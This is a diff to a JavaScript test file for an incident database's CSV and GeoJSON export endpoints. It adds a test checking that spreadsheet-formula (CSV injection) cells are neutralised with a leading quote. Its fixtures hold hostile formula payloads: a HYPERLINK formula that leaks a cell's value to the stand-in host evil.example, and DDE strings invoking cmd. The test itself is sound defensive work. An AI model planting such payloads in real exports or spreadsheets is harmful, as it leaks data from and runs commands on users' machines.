@@ -26,6 +26,9 @@ const csvRows = async (query = "") => {
 };
 
 const AWKWARD = 'He said "12 killed, 3 injured",\nthen left; a backslash \\ too';
+// Cells a spreadsheet would run as formulas (OWASP's CSV injection): each starts with = + - @ tab or CR.
+const FORMULA = { evidence: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', perpetrator: "+cmd|' /C calc'!A0", target: "@SUM(1+1)*cmd" };
+const FORMULA_PLACE = "-2+3+cmd|' /C calc'!A0";
 
 beforeAll(async () => {
   await resetDatabase();
@@ -42,6 +45,15 @@ beforeAll(async () => {
     datePrecision: "day",
     lat: 34.73,
     lon: 36.71,
+  });
+  const formula = await db().incident.create({
+    data: { ...FORMULA, placeName: FORMULA_PLACE, province: "Idlib", killed: 1, date: new Date("2019-05-06"), lat: 35.9, lon: 36.6 },
+  });
+  const article = await db().article.create({
+    data: { source: "\tTab Wire", url: "https://example.org/formula", text: "x", contentHash: "formula-test" },
+  });
+  await db().incidentSource.create({
+    data: { incidentId: formula.id, articleId: article.id, evidence: "\r=1+1", evidenceStart: 0, evidenceEnd: 1 },
   });
   // A synthetic row never appears in a real-data export.
   await db().incident.create({ data: { evidence: "Synthetic.", province: "Homs", killed: 1, synthetic: true, date: new Date("2021-03-04") } });
@@ -62,6 +74,21 @@ describe("GET /api/incidents.csv", () => {
     const row = (await csvRows()).find((r) => r.evidence.startsWith("He said"));
     expect(row?.evidence).toBe(AWKWARD);
     expect(row).toMatchObject({ killed: "12", injured: "3", date: "2021-03-04", date_precision: "day", lat: "34.73", lon: "36.71", sources: "1" });
+  });
+
+  it("neutralises cells a spreadsheet would run as formulas with a leading single quote, as OWASP recommends", async () => {
+    const row = (await csvRows()).find((r) => r.province === "Idlib" && r.killed === "1" && r.date === "2019-05-06");
+    expect(row).toMatchObject({
+      evidence: `'${FORMULA.evidence}`,
+      perpetrator: `'${FORMULA.perpetrator}`,
+      target: `'${FORMULA.target}`,
+      place: `'${FORMULA_PLACE}`,
+      article_sources: "'\tTab Wire",
+      article_urls: "https://example.org/formula",
+    });
+    // Ordinary cells, numbers and booleans stay as they were.
+    const plain = (await csvRows()).find((r) => r.evidence === AWKWARD);
+    expect(plain).toMatchObject({ killed: "12", lat: "34.73", evidence: AWKWARD });
   });
 
   it("carries the provenance of the seed incidents: article URL, source and evidence", async () => {
@@ -115,6 +142,8 @@ describe("GET /api/incidents.geojson", () => {
     expect(body.features.map((f) => f.properties.id).sort((a, b) => a - b)).toEqual(located.sort((a, b) => a - b));
     const awkward = body.features.find((f) => f.properties.evidence === AWKWARD);
     expect(awkward?.geometry.coordinates).toEqual([36.71, 34.73]);
+    // No spreadsheet quoting outside the CSV.
+    expect(body.features.find((f) => f.properties.evidence === FORMULA.evidence)).toBeDefined();
   });
 
   it("pages through the rows in batches without losing or repeating one, across the undated", async () => {
